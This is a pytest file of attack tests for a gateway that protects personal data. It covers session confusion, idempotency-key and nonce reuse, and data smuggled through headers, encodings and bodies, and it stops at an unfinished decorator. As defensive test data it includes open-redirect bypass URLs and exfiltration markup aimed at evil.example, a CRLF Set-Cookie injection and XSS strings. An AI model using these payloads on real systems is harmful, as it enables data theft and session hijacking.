"""Attacks on the whole exchange: what a hostile client, a hostile back end, a clumsy application and bad luck try.

Every test is named after what must hold. One that does not hold yet is marked ``broken`` with where the hole is; the
mark comes off with the mend (``strict``: a mended hole fails until it does).
"""

from __future__ import annotations

import asyncio
import gzip
import json
from base64 import b64encode, urlsafe_b64encode
from collections.abc import Callable, Iterable, Mapping
from dataclasses import replace
from functools import cache
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from gateway.core.reading import read
from gateway.core.route import find_route
from gateway.model.decision import Action
from gateway.model.kept import Batch, Kept, Recall, Recalled
from gateway.model.limits import Limits
from gateway.model.message import Headers, Reply, Request
from gateway.model.names import DestinationName, Kind
from gateway.model.residency import Caller, Claims
from gateway.model.rules import ClaimsSpec, Ruleset, SubjectRef
from gateway.ruleset.load import load
from gateway.verify.search import find
from tests.exchange.scenes import ANNA, ROUTES, RULES, SUBJECT, as_json, body_of, echo, get, post, world_rules
from tests.exchange.stage import Stage
from tests.made import RU, route, rule

SID: Headers = (("Cookie", "sid=s1"),)
HIS: Headers = (("Cookie", "sid=m1"),)
KEY: Headers = (("Idempotency-Key", "k-1"),)
EMAIL, PHONE = ANNA["email"], ANNA["phone"]
MALLORY = {"email": "mallory@example.org", "first_name": "Мэллори", "phone": "+7 900 000-07-77"}
CRM = DestinationName("crm")


@cache
def shipped() -> Ruleset:
    return load([Path(__file__).parents[2] / "rules" / "demo.yaml"])


def broken(why: str) -> pytest.MarkDecorator:
    return pytest.mark.xfail(strict=True, reason=why)


BOTH = pytest.mark.parametrize("rules", [world_rules, shipped], ids=["scenes", "shipped"])


def stage(rules: Ruleset | None = None) -> Stage:
    return Stage(rules or world_rules(), respond=echo)


def sealing(kind: str) -> Ruleset:
    """Rules under which values of a kind go out encrypted."""
    seal = rule("seal", Action.ENCRYPT, kinds=frozenset({Kind(kind)}), overrides=frozenset({"russians-stay-home"}))
    return world_rules(rules=(*RULES, seal))


def sent_by(on: Stage, *, since: int = 0) -> bytes:
    """Everything that left, as bytes."""
    lines = []
    for one in on.received[since:]:
        headers = "\r\n".join(f"{name}: {value}" for name, value in one.headers)
        head = f"{one.method} {one.target}\r\n{headers}\r\n\r\n"
        lines.append(head.encode("utf-8", "surrogateescape") + one.body)
    return b"\r\n".join(lines)


def leaked(on: Stage, *texts: str, since: int = 0) -> list[str]:
    return [hit.text for hit in find(texts, sent_by(on, since=since))]


async def registered(on: Stage, person: Mapping[str, object], number: int = 42) -> bytes:
    """The person as the back end knows him now."""
    on.respond = lambda _: as_json({"id": number}, 201)
    await on.send(post("/api/register", person))
    on.respond = echo
    return on.last_sent.body


async def logged_in(on: Stage, email: str, sid: str, *, headers: Headers = ()) -> None:
    on.respond = lambda _: as_json({}, headers=(("Set-Cookie", f"sid={sid}; Path=/; HttpOnly"),))
    await on.send(post("/api/login", {"email": email, "password": "word"}, headers))
    on.respond = echo


async def seen_by(on: Stage, body: bytes, headers: Headers) -> str:
    """What a caller gets to see of a list in which the back end shows this."""
    on.respond = lambda _: Reply(200, (("Content-Type", "application/json"),), body)
    outcome = await on.send(get("/api/users", headers))
    on.respond = echo
    assert isinstance(outcome, Reply)
    return outcome.body.decode()


def raw(target: str, media: str, body: bytes, headers: Headers = (), method: str = "POST") -> Request:
    return Request(method, target, (("Host", "gw"), ("Content-Type", media), *headers), body)


# ---------------------------------------------------------------------------- 1. a Russian made foreign


@BOTH
@pytest.mark.parametrize(
    "written", [None, False, "не указано", "-", "?", "RF", "Rossiya", "Росия", "гражданин РФ", "ru-RU"]
)
async def test_a_citizenship_that_names_no_foreign_country_makes_nobody_foreign(
    rules: Callable[[], Ruleset], written: object
) -> None:
    on = stage(rules())
    await on.send(post("/api/register", {"email": EMAIL, "citizenship": written}))
    assert leaked(on, EMAIL) == []


@BOTH
@pytest.mark.parametrize("written", [["DE"], {"code": "DE"}, "", " "])
async def test_a_citizenship_of_an_odd_form_makes_nobody_foreign(rules: Callable[[], Ruleset], written: object) -> None:
    on = stage(rules())
    await on.send(post("/api/register", {"email": EMAIL, "citizenship": written}))
    assert leaked(on, EMAIL) == []


@pytest.mark.parametrize("beside", [
    {"spouse": {"name": "Hans", "citizenship": "DE"}}, {"order": {"courier": {"citizenship": "DE"}}},
    {"note": '{"citizenship": "DE"}'}, {"others": [{"email": "hans@example.org", "citizenship": "DE"}]},
])  # fmt: skip
async def test_the_citizenship_of_somebody_else_in_the_message_makes_nobody_foreign(beside: dict[str, object]) -> None:
    on = stage()
    await on.send(post("/api/orders", {"email": EMAIL, **beside}))
    assert leaked(on, EMAIL) == []


@BOTH
async def test_a_known_russian_stays_russian_beside_an_unknown_phone_and_a_foreign_citizenship(
    rules: Callable[[], Ruleset],
) -> None:
    on = stage(rules())
    await registered(on, ANNA)
    await on.send(post("/api/register", {"email": EMAIL, "phone": "+49 151 23456789", "citizenship": "DE"}))
    assert leaked(on, EMAIL) == []


@BOTH
async def test_a_refused_strangers_declaration_moves_no_known_person(rules: Callable[[], Ruleset]) -> None:
    on = stage(rules())
    await registered(on, {"email": EMAIL, "first_name": "Анна"})
    on.respond = lambda _: as_json({"error": "taken"}, 409)
    await on.send(post("/api/register", {"email": EMAIL, "citizenship": "DE"}))
    await on.send(post("/api/login", {"email": EMAIL, "password": "word"}))
    assert leaked(on, EMAIL, since=2) == []


async def test_a_foreigner_who_types_a_strangers_email_does_not_make_the_stranger_foreign() -> None:
    on = stage()
    await registered(on, {"email": EMAIL, "first_name": "Анна"})
    await registered(on, {**MALLORY, "citizenship": "DE"}, 43)
    await logged_in(on, MALLORY["email"], "m1")
    await on.send(post("/api/me", {"email": EMAIL}, HIS, method="PUT"))
    before = len(on.received)
    await on.send(post("/api/login", {"email": EMAIL, "password": "word"}))
    assert leaked(on, EMAIL, since=before) == []


@BOTH
async def test_one_item_of_an_undeclared_list_makes_the_others_no_foreigners(rules: Callable[[], Ruleset]) -> None:
    on = stage(rules())
    people = [{"email": "hans@example.org", "citizenship": "DE"}, {"email": EMAIL}]
    await on.send(post("/api/users/batch", people))
    assert leaked(on, EMAIL) == []


async def test_a_header_or_a_referer_declares_nobodys_citizenship() -> None:
    on = stage()
    await on.send(
        post("/api/x", {"email": EMAIL}, (("Citizenship", "DE"), ("Referer", "https://x.example/?citizenship=DE")))
    )
    assert leaked(on, EMAIL) == []


# ------------------------------------------------------------------------- 2. one person taken for another


@pytest.mark.parametrize(("media", "body"), [
    ("application/json", '{"email": "%s", "email": "%s", "password": "w"}'),
    ("application/json", '{"email": "%s", "Email": "%s", "password": "w"}'),
    ("application/x-www-form-urlencoded", "email=%s&email=%s&password=w"),
])  # fmt: skip
async def test_a_login_that_names_two_people_starts_nobodys_session(media: str, body: str) -> None:
    on = stage()
    anna = await registered(on, ANNA)
    await registered(on, MALLORY, 43)
    on.respond = lambda _: as_json({}, headers=(("Set-Cookie", "sid=m1"),))
    await on.send(raw("/api/login", media, (body % (EMAIL, MALLORY["email"])).encode()))
    assert "Анна" not in await seen_by(on, anna, HIS)


@pytest.mark.parametrize("method", ["GET", "HEAD", "OPTIONS"])
async def test_a_request_that_only_reads_starts_no_session(method: str) -> None:
    on = stage()
    anna = await registered(on, ANNA)
    on.respond = lambda _: Reply(200, (("Set-Cookie", "sid=m1"),), b"")
    await on.send(post("/api/login", {"email": EMAIL}, method=method))
    assert "Анна" not in await seen_by(on, anna, HIS)


@BOTH
async def test_who_registers_in_anothers_session_does_not_become_that_person(rules: Callable[[], Ruleset]) -> None:
    on = stage(rules())
    anna = await registered(on, ANNA)
    await logged_in(on, EMAIL, "s1")
    on.respond = lambda _: as_json({"id": 43}, 201)
    await on.send(post("/api/register", MALLORY, SID))
    await logged_in(on, MALLORY["email"], "m1")
    assert "Анна" not in await seen_by(on, anna, HIS)


@BOTH
@pytest.mark.parametrize("status", [302, 403, 500])
async def test_a_refused_update_of_somebody_gives_him_no_identifier(rules: Callable[[], Ruleset], status: int) -> None:
    on = stage(rules())
    anna = await registered(on, ANNA)
    on.respond = lambda _: as_json({"error": "not yours"}, status)
    await on.send(post("/api/users/42", {"email": MALLORY["email"]}, method="PUT"))
    await registered(on, {"email": MALLORY["email"], "first_name": "Мэллори"}, 43)
    await logged_in(on, MALLORY["email"], "m1")
    assert "Анна" not in await seen_by(on, anna, HIS)


async def test_a_message_with_two_ids_is_nobodys() -> None:
    by_body = route("api/save", methods=frozenset({"PUT"}), subject_ref=SubjectRef("user", read=("body", "id")))
    on = stage(world_rules(routes=(by_body, *ROUTES)))
    anna = await registered(on, ANNA)
    body = f'{{"id": 42, "id": 43, "email": "{MALLORY["email"]}"}}'.encode()
    await on.send(raw("/api/save", "application/json", body, method="PUT"))
    await logged_in(on, MALLORY["email"], "m1")
    assert "Анна" not in await seen_by(on, anna, HIS)


@BOTH
async def test_mentioning_somebodys_identifiers_beforehand_gives_no_claim_to_his_data(
    rules: Callable[[], Ruleset],
) -> None:
    on = stage(rules())
    await registered(on, {"email": MALLORY["email"], "note": EMAIL, "note2": PHONE}, 43)
    await logged_in(on, MALLORY["email"], "m1")
    anna = await registered(on, ANNA, 44)
    assert "Анна" not in await seen_by(on, anna, HIS)


async def test_an_order_under_a_shared_phone_is_not_shown_to_the_spouse() -> None:
    on = stage()
    await registered(on, ANNA)
    await logged_in(on, EMAIL, "s1")
    await on.send(post("/api/orders", {"phone": PHONE, "first_name": "Иван"}))
    assert "Иван" not in await seen_by(on, on.last_sent.body, SID)


async def test_the_same_id_in_two_back_ends_is_not_the_same_person() -> None:
    on = stage()
    await on.send(post("/api/orders", {"user_id": 4242, "email": EMAIL}))
    await on.send(post("/loyalty/cards", {"user_id": 4242, "first_name": "Борис"}))
    assert on.vaults[RU].entries[-1].subjects == ()


async def test_a_look_up_teaches_nobodys_id() -> None:
    learns = route(
        "api/people", whose="caller", reveal_to=(SUBJECT,), subject_ref=SubjectRef("user", learn=("reply", "id"))
    )
    on = stage(world_rules(routes=(learns, *ROUTES)))
    await registered(on, MALLORY, 43)
    await logged_in(on, MALLORY["email"], "m1")
    on.respond = lambda _: as_json({"id": 77})
    await on.send(get("/api/people?n=77", HIS))
    on.respond = echo
    await on.send(post("/api/users/77", {"first_name": "Анна"}, method="PUT"))
    assert "Анна" not in await seen_by(on, on.last_sent.body, HIS)


RENEWED: Headers = (("Set-Cookie", "sid=s1; Path=/"),)


@pytest.mark.parametrize(("email", "cookie"), [
    pytest.param(MALLORY["email"], RENEWED, id="known, cookie set again"),
    pytest.param(MALLORY["email"], (), id="known, cookie kept"),
    pytest.param("never.seen@example.org", RENEWED, id="unknown, cookie set again"),
    pytest.param("never.seen@example.org", (), id="unknown, cookie kept"),
])  # fmt: skip
async def test_a_login_as_somebody_else_ends_the_old_session(email: str, cookie: Headers) -> None:
    on = stage()
    anna = await registered(on, ANNA)
    await registered(on, MALLORY, 43)
    await logged_in(on, EMAIL, "s1")
    on.respond = lambda _: as_json({}, headers=cookie)
    await on.send(post("/api/login", {"email": email, "password": "word"}, SID))
    assert "Анна" not in await seen_by(on, anna, SID)


@pytest.mark.parametrize(
    "gone", ["sid=; Path=/", "sid=deleted; Max-Age=0", "sid=x; expires=Thu, 01 Jan 1970 00:00:00 GMT"]
)
async def test_a_logout_ends_the_session(gone: str) -> None:
    on = stage()
    anna = await registered(on, ANNA)
    await logged_in(on, EMAIL, "s1")
    on.respond = lambda _: as_json({}, headers=(("Set-Cookie", gone),))
    await on.send(post("/api/logout", {}, SID))
    assert "Анна" not in await seen_by(on, anna, SID)


@pytest.mark.parametrize("cookie", ["sid=made-up", "sid=", "sid=s1x", "SID=s1", "xsid=s1", "a=sid=s1"])
async def test_a_made_up_session_is_nobodys(cookie: str) -> None:
    on = stage()
    anna = await registered(on, ANNA)
    await logged_in(on, EMAIL, "s1")
    assert "Анна" not in await seen_by(on, anna, (("Cookie", cookie),))


async def test_a_verified_claim_outranks_a_cookie_even_if_its_person_is_new() -> None:
    on = stage(world_rules(claims=ClaimsSpec(jwks="jwks.json")))
    anna = await registered(on, ANNA)
    await logged_in(on, EMAIL, "s1")
    on.claims = Claims(subject="boris", roles=frozenset(), country=None)
    assert "Анна" not in await seen_by(on, anna, (*SID, ("Authorization", "Bearer x")))


@BOTH
async def test_mallorys_login_with_annas_cookie_is_mallorys(rules: Callable[[], Ruleset]) -> None:
    on = stage(rules())
    anna = await registered(on, ANNA)
    await registered(on, MALLORY, 43)
    await logged_in(on, EMAIL, "s1")
    await logged_in(on, MALLORY["email"], "m1", headers=SID)
    assert "Анна" not in await seen_by(on, anna, HIS)


# --------------------------------------------------------------------------- 3. people who can't see their own


@pytest.mark.parametrize("value", ["s%3Aabc.d%2Fe", '"quoted"'])
async def test_a_session_id_is_known_again_however_it_is_spelt(value: str) -> None:
    on = stage()
    anna = await registered(on, ANNA)
    await logged_in(on, EMAIL, value)
    assert "Анна" in await seen_by(on, anna, (("Cookie", f"sid={value}"),))


async def test_a_session_that_began_before_the_login_is_bound_by_it() -> None:
    on = stage()
    anna = await registered(on, ANNA)
    on.respond = lambda _: as_json({})
    await on.send(post("/api/login", {"email": EMAIL, "password": "word"}, SID))
    assert "Анна" in await seen_by(on, anna, SID)


@BOTH
async def test_who_corrects_a_refused_registration_sees_his_own_data_afterwards(rules: Callable[[], Ruleset]) -> None:
    on = stage(rules())
    on.respond = lambda _: as_json({"error": "no such phone"}, 422)
    await on.send(post("/api/register", {**ANNA, "phone": "+7 900 000-01-24"}))
    anna = await registered(on, ANNA)
    await logged_in(on, EMAIL, "s1")
    assert "Анна" in await seen_by(on, anna, SID)


async def test_a_double_click_on_register_makes_one_person() -> None:
    on = stage()
    vault, meeting = on.vaults[RU], asyncio.Barrier(2)
    recall, asked = vault.recall, list[Recall]()

    async def together(query: Recall) -> Recalled:
        asked.append(query)
        answer = await recall(query)
        if len(asked) <= meeting.parties:
            await meeting.wait()
        return answer

    vault.recall = together  # type: ignore[method-assign]  # both read before either writes
    async with asyncio.TaskGroup() as group:
        for _ in range(2):
            group.create_task(on.send(post("/api/register", ANNA)))
    vault.recall = recall  # type: ignore[method-assign]  # the vault as it was
    await logged_in(on, EMAIL, "s1")
    shown = [await seen_by(on, one.body, SID) for one in on.received[:2]]
    assert ["Анна" in one for one in shown] == [True, True]


async def test_a_stand_in_that_comes_back_beside_its_records_token_is_not_a_new_value() -> None:
    on = stage()
    anna = await registered(on, {**ANNA, "birth_date": "1990-05-05"})
    await logged_in(on, EMAIL, "s1")
    await on.send(raw("/api/me", "application/json", anna, SID, "PUT"))
    assert "1990-05-05" in await seen_by(on, on.last_sent.body, SID)


async def test_an_encrypted_field_that_comes_back_is_not_protected_again() -> None:
    on = stage(sealing("address"))
    anna = await registered(on, {**ANNA, "address": "Москва, ул. Тестовая, д. 5"})
    await logged_in(on, EMAIL, "s1")
    await on.send(raw("/api/me", "application/json", anna, SID, "PUT"))
    assert json.loads(on.last_sent.body)["address"] == json.loads(anna)["address"]


@BOTH
async def test_a_personal_cookie_does_not_lock_its_owner_out_of_reading(rules: Callable[[], Ruleset]) -> None:
    on = stage(rules())
    outcome = await on.send(get("/api/me", (("Cookie", "fio=%D0%90%D0%BD%D0%BD%D0%B0"),)))
    assert isinstance(outcome, Reply)


# ----------------------------------------------------------------------------- 4. Idempotency-Key and nonces


async def test_a_value_in_a_header_is_recorded_under_a_used_idempotency_key_too() -> None:
    on = stage()
    await on.send(post("/api/orders", {"first_name": "Фанис"}, (*KEY, ("X-Phone", PHONE))))
    await on.send(post("/api/orders", {"first_name": "Фанис"}, (*KEY, ("X-Phone", "+7 900 000-07-77"))))
    assert _digits(on.received[0].header("x-phone")) != _digits(on.received[1].header("x-phone"))


async def test_a_field_never_gets_another_fields_token_under_a_used_idempotency_key() -> None:
    on = stage()
    await on.send(post("/api/orders", {"first_name": "Фанис"}, (*KEY, ("X-Phone", PHONE))))
    token = _digits(on.last_sent.header("x-phone"))
    await on.send(post("/api/orders", {"first_name": "Фанис"}, KEY))
    assert body_of(on.last_sent)["first_name"] != token


def _digits(text: str | None) -> str:
    return "".join(char for char in text or "" if char.isdigit())


async def test_a_retry_with_one_header_more_is_not_refused_for_ever() -> None:
    on = stage()
    phone: Headers = (*KEY, ("X-Phone", PHONE))
    await on.send(post("/api/orders", {"first_name": "Фанис"}, phone))
    outcome = await on.send(post("/api/orders", {"first_name": "Фанис"}, (*phone, ("X-Email", EMAIL))))
    assert isinstance(outcome, Reply)


async def test_two_texts_are_never_encrypted_under_one_nonce() -> None:
    on = stage(sealing("phone"))
    for phone in (PHONE, "+7 900 000-07-77"):
        await on.send(post("/api/orders", {"sku": "b"}, (*KEY, ("X-Phone", phone))))
    nonces = {(one.header("x-phone") or "").split(".")[2][:16] for one in on.received}
    assert len(nonces) == 2


async def test_two_records_are_never_sealed_under_one_nonce() -> None:
    on = stage()
    vault, sealed = on.vaults[RU], list[bytes]()
    keep = vault.keep

    async def watched(batch: Batch) -> Kept:
        sealed.extend(one.sealed for one in batch.keeps)
        return await keep(batch)

    vault.keep = watched  # type: ignore[method-assign]  # the test looks on
    await registered(on, ANNA)
    await logged_in(on, EMAIL, "s1")
    on.respond = lambda _: as_json({"error": "no"}, 409)
    for _ in range(2):
        await on.send(post("/api/me", {"first_name": "Аня"}, (*SID, *KEY), method="PUT"))
    assert sealed[1][:13] != sealed[2][:13] or sealed[1] == sealed[2]


async def test_two_callers_with_one_idempotency_key_share_nothing() -> None:
    on = stage()
    for peer in ("198.51.100.7", "198.51.100.8"):
        await on.send(post("/api/orders", {"first_name": "Фанис"}, KEY, peer=peer))
    assert on.received[0].body != on.received[1].body


# --------------------------------------------------------------------------- 5. originals carried elsewhere


LISTED = world_rules()
LISTED = replace(LISTED, destinations={
    **LISTED.destinations, CRM: replace(LISTED.destinations[CRM], reveal_location_hosts=frozenset({"app.example"})),
})  # fmt: skip


async def located(*locations: str) -> str:
    """The Location headers that Anna's browser gets; ``{}`` stands for the token of her e-mail."""
    on = stage(LISTED)
    token = str(json.loads(await registered(on, ANNA))["email"])
    await logged_in(on, EMAIL, "s1")
    on.respond = lambda _: Reply(302, tuple(("Location", one.format(token)) for one in locations), b"")
    outcome = await on.send(get("/api/me", SID))
    assert isinstance(outcome, Reply)
    return " ".join(value for name, value in outcome.headers if name == "Location")


@pytest.mark.parametrize("start", ["https://evil.example\\@app.example/", "https://evil.example\\\\@app.example/"])
async def test_a_backslash_smuggles_no_host_into_location(start: str) -> None:
    assert EMAIL not in await located(start + "?e={}")


async def test_each_location_header_is_judged_by_its_own_host() -> None:
    assert EMAIL not in (await located("https://app.example/", "https://evil.example/?e={}"))


@pytest.mark.parametrize("location", [
    "https://app.example:x@evil.example/?e={}", "https://evil.example#@app.example/{}", "https:///app.example/{}",
    "https://evil.example?@app.example/{}", "https://app.example.evil.example/{}", "//evil.example/{}",
    "https://app.example\\.evil.example/{}", "https://{}.app.example/", "evil:app.example/{}",
])  # fmt: skip
async def test_location_is_not_fooled_about_its_host(location: str) -> None:
    assert EMAIL not in await located(location)


async def test_an_original_breaks_no_line_of_a_location() -> None:
    on = stage(LISTED)
    on.respond = lambda sent: Reply(302, (("Location", f"https://app.example/{body_of(sent)['first_name']}"),), b"")
    outcome = await on.send(post("/api/orders", {"first_name": "a\r\nSet-Cookie: x=1"}))
    assert isinstance(outcome, Reply)
    assert outcome.header("location") == "https://app.example/a%0D%0ASet-Cookie%3A%20x%3D1"


@pytest.mark.parametrize("page", [
    '<img src="https://evil.example/p?u={}">', '<script src="//evil.example/{}"></script>',
    '<form action="https://evil.example/{}">',
])  # fmt: skip
async def test_a_page_carries_no_original_to_another_host(page: str) -> None:
    on = stage()
    token = str(json.loads(await registered(on, ANNA))["email"])
    await logged_in(on, EMAIL, "s1")
    on.respond = lambda _: Reply(200, (("Content-Type", "text/html"),), page.format(token).encode())
    outcome = await on.send(get("/pages/me", SID))
    assert isinstance(outcome, Reply)
    assert EMAIL.encode() not in outcome.body


async def test_a_revealed_reply_stays_as_uncacheable_as_the_back_end_made_it() -> None:
    on = stage()
    on.respond = lambda sent: Reply(
        200, (("Content-Type", "application/json"), ("Cache-Control", "no-store")), sent.body
    )
    outcome = await on.send(post("/api/register", ANNA))
    assert isinstance(outcome, Reply)
    assert "no-store" in (outcome.header("cache-control") or "")


@pytest.mark.parametrize(
    "name", ["Refresh", "Link", "Set-Cookie", "Content-Disposition", "X-Email", "Content-Location"]
)
async def test_no_header_but_location_is_revealed(name: str) -> None:
    on = stage()
    token = str(json.loads(await registered(on, ANNA))["email"])
    await logged_in(on, EMAIL, "s1")
    on.respond = lambda _: as_json({"email": token}, headers=((name, f"0; url=https://evil.example/{token}"),))
    outcome = await on.send(get("/api/me", SID))
    assert isinstance(outcome, Reply)
    assert EMAIL in outcome.body.decode()
    assert EMAIL not in (outcome.header(name) or "")


@pytest.mark.parametrize("page", [
    "<a href={}>", "<!-- {} -->", "<style>p{{content:'{}'}}</style>",
    "<a onclick=\"f('{}')\">", "<svg><text>{}</text></svg>",
    "<iframe srcdoc='{}'></iframe>", "<script>`{}`</script>", "<script>/* {} */</script>", "<xmp>{}</xmp>",
    "<noscript>{}</noscript>", "<a style='x:{}'>", "<a href='javascript:f(\"{}\")'>", "<p title='{}",
])  # fmt: skip
async def test_where_the_context_is_uncertain_the_token_stays(page: str) -> None:
    on = stage()
    on.respond = lambda sent: Reply(
        200, (("Content-Type", "text/html"),), page.format(body_of(sent)["first_name"]).encode()
    )
    outcome = await on.send(post("/pages/x", {"first_name": "<img src=x onerror=f()>"}))
    assert isinstance(outcome, Reply)
    assert outcome.body.decode() == page.format(body_of(on.last_sent)["first_name"])


async def test_a_token_at_the_start_of_a_link_becomes_no_script() -> None:
    on = stage()
    on.respond = lambda sent: Reply(
        200, (("Content-Type", "text/html"),), f'<a href="{body_of(sent)["first_name"]}">'.encode()
    )
    outcome = await on.send(post("/pages/x", {"first_name": "javascript:f()"}))
    assert isinstance(outcome, Reply)
    assert b"javascript:" not in outcome.body


async def test_somebody_elses_stand_in_is_not_restored_beside_ones_own_token() -> None:
    on = stage()
    anna = json.loads(await registered(on, {**ANNA, "birth_date": "1990-05-05"}))
    his = json.loads(await registered(on, {**MALLORY, "birth_date": "1980-01-01"}, 43))
    await logged_in(on, MALLORY["email"], "m1")
    page = json.dumps([{**his, "birth_date": anna["birth_date"]}, anna]).encode()
    assert "1990-05-05" not in await seen_by(on, page, HIS)


EVERY_SHAPE = {
    **ANNA, "passport": "4509 123456", "snils": "112-233-445 95", "inn": "500100732259", "login": "anna_2000",
    "address": "Москва, ул. Тестовая, д. 5", "last_name": "Smirnova", "account_number": "40817810099910004312",
    "device_id": "6d92078a-8246-4ba4-ae5b-76104861e7dc", "second_phone": 79000000555, "oms": "7700000000000001",
}  # fmt: skip
del EVERY_SHAPE["citizenship"]


def _spellings(token: str) -> Iterable[str]:
    bare = token.replace(" ", "").replace("-", "").replace("(", "").replace(")", "")
    return dict.fromkeys([token, token.upper(), bare, f"x {token} y", token.partition("@")[0], bare.lstrip("+")])


@pytest.mark.parametrize("place", list(EVERY_SHAPE))
async def test_somebody_elses_token_is_plain_text_in_every_shape_spelling_and_place(place: str) -> None:
    on = stage()
    tokens = json.loads(await registered(on, EVERY_SHAPE))
    originals = [str(value) for value in EVERY_SHAPE.values()]
    await registered(on, MALLORY, 43)
    await logged_in(on, MALLORY["email"], "m1")
    assert tokens[place] != EVERY_SHAPE[place]
    for spelt in _spellings(str(tokens[place])):
        for body in ({place: spelt}, {"note": spelt}, {"note": json.dumps({"a": spelt})}, {spelt: 1}):
            outcome = await on.send(post("/api/me", body, HIS, method="PUT"))
            assert isinstance(outcome, Reply)
            assert not [text for text in originals if text in outcome.body.decode()]
            assert str(tokens[place]) not in on.last_sent.body.decode()


# ------------------------------------------------------------------------------- 6. plaintext that gets through


def _b64(text: str, charset: str = "utf-8") -> str:
    return b64encode(text.encode(charset)).decode()


def _part(text: str) -> str:
    return urlsafe_b64encode(text.encode()).rstrip(b"=").decode()


JWT = ".".join((_part('{"alg":"RS256"}'), _part(f'{{"sub":"1","email":"{EMAIL}"}}'), _part("signature" * 4)))
UNPADDED = _b64(f"{EMAIL}:word").rstrip("=")
assert len(UNPADDED) % 4


@pytest.mark.parametrize(("header", "value"), [
    pytest.param("Authorization", f"Bearer {EMAIL}"),
    pytest.param("Authorization", EMAIL),
    pytest.param("X-Api-Key", EMAIL),
    pytest.param("X-Auth-Token", "anna:+79000000123"),
    pytest.param("X-CSRF-Token", "+79000000123"),
    pytest.param("Authorization", f"Bearer {JWT}"),
    pytest.param("Cookie", f"jwt={JWT}"),
    pytest.param("Authorization", f"Basic {UNPADDED}"),
    pytest.param("Authorization", f"Basic\t{_b64(f'{EMAIL}:word')}"),
    pytest.param("Authorization", f"Basic {_b64(f'{EMAIL}:слово', 'cp1251')}"),
    pytest.param("Authorization", f"BASIC   {_b64(f'{EMAIL}:word')}"),
    pytest.param("If-Match", '"+79000000123"'),
    pytest.param("If-None-Match", '"+79000000123"'),
    pytest.param("Prefer", "+79000000123"),
    pytest.param("Pragma", "89000000123"),
    pytest.param("Accept", "text/x, 89000000123"),
    pytest.param("Accept-Language", "ru, 89000000123"),
    pytest.param("Sec-89000000123", "1"),
    pytest.param("Sec-Whatever", EMAIL),
    pytest.param("X-89000000123", "1"),
    pytest.param("Idempotency-Key", EMAIL),
    pytest.param("X-Request-Id", "89000000123"),
    pytest.param("X-Forwarded-For", f"{EMAIL}, 198.51.100.7"),
    pytest.param("X-Forwarded-User", EMAIL),
    pytest.param("Forwarded", f'for="[2001:db8::1]:4711";by={EMAIL}'),
    pytest.param("Via", f"1.1 {EMAIL}"),
    pytest.param("Referer", f"https://x.example/{EMAIL}?e={EMAIL}#+79000000123"),
    pytest.param("User-Agent", f"Mail/1.0 ({EMAIL})"),
    pytest.param("Expect", EMAIL),
    pytest.param("Content-Language", EMAIL),
    pytest.param("Baggage", f"user.email={EMAIL}"),
    pytest.param("Cookie", f"{EMAIL}=1; +79000000123"),
    pytest.param("Cookie", "prefs=%257B%2522email%2522%253A%2522anna.smirnova%2540example.ru%2522%257D"),
    pytest.param("X-Name", f"=?utf-8?B?{_b64(EMAIL)}?="),
])  # fmt: skip
async def test_no_header_carries_a_russian_abroad(header: str, value: str) -> None:
    on = stage(shipped())
    await on.send(post("/api/users/7", {"sku": "b"}, ((header, value),)))
    assert leaked(on, EMAIL, "+79000000123", "89000000123") == []


FORM = "application/x-www-form-urlencoded"


@pytest.mark.parametrize(("media", "body"), [
    pytest.param("text/plain", EMAIL.encode("utf-16-le"), id="UTF-16 text"),
    pytest.param(FORM, f"a={EMAIL}".encode("utf-16-le"), id="UTF-16 form"),
    pytest.param("text/plain; charset=utf-8; charset=utf-16", EMAIL.encode("utf-16-le"), id="two charsets"),
    pytest.param("text/plain", EMAIL.encode("utf-16"), id="UTF-16 text with a mark"),
    pytest.param("text/plain; charset=utf-16le", EMAIL.encode("utf-16-le"), id="UTF-16 with a label"),
    pytest.param("text/plain; charset=utf-7", EMAIL.encode("utf-7"), id="UTF-7"),
    pytest.param("text/plain", '{"first_name": "Фанис"}\n{"first_name": "Фанис"}'.encode(), id="JSON lines"),
    pytest.param("text/plain", '{"first_name": "Фанис",}'.encode(), id="JSON5"),
    pytest.param(FORM, '{"first_name": "Фанис"}'.encode(), id="JSON labelled form"),
    pytest.param("application/json", f"email={EMAIL}".encode(), id="form labelled JSON"),
    pytest.param("", f"email={EMAIL}".encode(), id="empty label"),
    pytest.param("application/json, text/plain", f"email={EMAIL}".encode(), id="two labels"),
    pytest.param("application/json", b'{"x": "\\u0061nna.smirnova\\u0040example.ru"}', id="JSON escapes"),
    pytest.param("application/json", f'{{"x": "a", "x": "{EMAIL}", "x": "b"}}'.encode(), id="repeated key"),
    pytest.param("application/json", f'\ufeff{{"{EMAIL}": {{"+79000000123": []}}}}'.encode(), id="keys, BOM"),
    pytest.param("application/json", b'{"x": "anna.smirnova%40example.ru, anna.smirnova&#64;example.ru"}',
                 id="escapes"),
    pytest.param("application/json", '{"x": "anna.smirnova＠example.ru \u200b８９０００００0123"}'.encode(),
                 id="look-alikes"),
    pytest.param("application/json", b'{"x": 79000000123}', id="number"),
    pytest.param("application/json", b'{"x": 7.9000000123e10}', id="exponent"),
    pytest.param("application/json", b'{"x": "+7 900\\n000\\n01 23"}', id="line breaks"),
    pytest.param("application/json", b'{"x": "8\\t900\\t000\\t01\\t23"}', id="tabs"),
    pytest.param("application/json", json.dumps({"token": EMAIL}).encode(), id="as token"),
    pytest.param("application/json", json.dumps({"access_token": EMAIL}).encode(), id="as bearer"),
    pytest.param("application/json", json.dumps({"api_key": "+7 900 000-01-23"}).encode(), id="as key"),
    pytest.param("application/json", json.dumps({"id_token": JWT}).encode(), id="id_token"),
    pytest.param("application/json", json.dumps({"x": _b64(EMAIL)}).encode(), id="base64"),
    pytest.param("application/json", gzip.compress(gzip.compress(json.dumps({"x": EMAIL}).encode())), id="gzip twice"),
])  # fmt: skip
async def test_no_body_carries_a_russian_abroad(media: str, body: bytes) -> None:
    on = stage(shipped())
    await on.send(raw("/api/users/7", media, body))
    canaries = (EMAIL, "+79000000123", "9000000123", "+7 900 000-01-23", "Фанис", "8\\t900\\t000", "+7 900\\n000")
    assert leaked(on, *canaries) == []
    assert EMAIL.encode("utf-16-le") not in sent_by(on)


@pytest.mark.parametrize("target", [
    f"/api/users/{EMAIL}", "/api/users/anna.smirnova%2540example.ru", f"/api/users/7;e={EMAIL}",
    f"/api/users/7?{EMAIL}",
    "/api/users?x=anna.smirnova%2540example.ru", f"/api/users?a=1&a={EMAIL}&a=2", "/api/users/7?%2B79000000123=1",
    f"http://{EMAIL}@gw/api/users/7",
    pytest.param(f"/api/users/7?token={EMAIL}"),
])  # fmt: skip
